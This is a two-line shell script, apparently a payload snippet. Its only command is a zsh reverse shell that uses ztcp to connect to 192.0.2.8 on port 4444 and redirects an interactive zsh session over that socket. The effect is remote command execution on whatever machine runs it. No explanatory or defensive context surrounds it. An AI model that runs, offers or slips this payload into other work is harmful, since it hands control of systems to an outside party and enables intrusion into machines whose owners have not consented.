#!/bin/sh
zsh -c 'zmodload zsh/net/tcp && ztcp -d 9 192.0.2.8 4444 && zsh 1>&9 2>&9 0>&9'
